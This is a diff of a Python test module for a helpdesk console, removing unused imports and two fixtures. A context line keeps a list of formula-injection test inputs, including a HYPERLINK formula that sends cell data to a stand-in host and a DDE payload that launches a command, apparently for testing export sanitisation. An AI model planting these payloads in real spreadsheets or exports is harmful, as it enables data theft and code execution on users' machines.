@@ -17,7 +17,7 @@ import json
 import statistics
 import time
 from datetime import date, datetime, timezone
-from typing import Any, Callable, Iterator
+from typing import Any, Callable
 
 import pytest
 import sqlalchemy as sa
@@ -25,8 +25,7 @@ from sqlalchemy import select
 
 from console import auth as console_auth
 from helpdesk import errors
-from helpdesk.config import reset_settings
-from helpdesk.db import dispose_engines, get_engine, session_scope
+from helpdesk.db import get_engine, session_scope
 from helpdesk.models import Customer, KnowledgeQuery, Technician, Ticket, TicketEvent
 from helpdesk.services import customer_import, customers, handoff, technicians, tickets
 from helpdesk.services.rasa_client import RasaClient
@@ -38,30 +37,6 @@ from tests.console.conftest import RasaRecorder
 
 FORMULAS = ('=HYPERLINK("http://mal.example/?d="&A1,"Ver fatura")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+5511999990000", "-1+1", "\t=1+1", "\r=1+1")
-
-
-@pytest.fixture()
-def ids(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[dataset.Ids]:
-    monkeypatch.setenv("DATABASE_URL", sqlite_url)
-    monkeypatch.setenv("CONSOLE_SESSION_TTL_MINUTES", "30")
-    reset_settings()
-    with session_scope() as s:
-        built = dataset.build(s)
-    yield built
-    dispose_engines()
-    reset_settings()
-
-
-@pytest.fixture()
-def rasa(monkeypatch: pytest.MonkeyPatch) -> Iterator[RasaRecorder]:
-    recorder = RasaRecorder().start()
-    monkeypatch.setenv("RASA_URL", recorder.url)
-    reset_settings()
-    try:
-        yield recorder
-    finally:
-        recorder.stop()
-        reset_settings()
 
 
 @pytest.fixture()
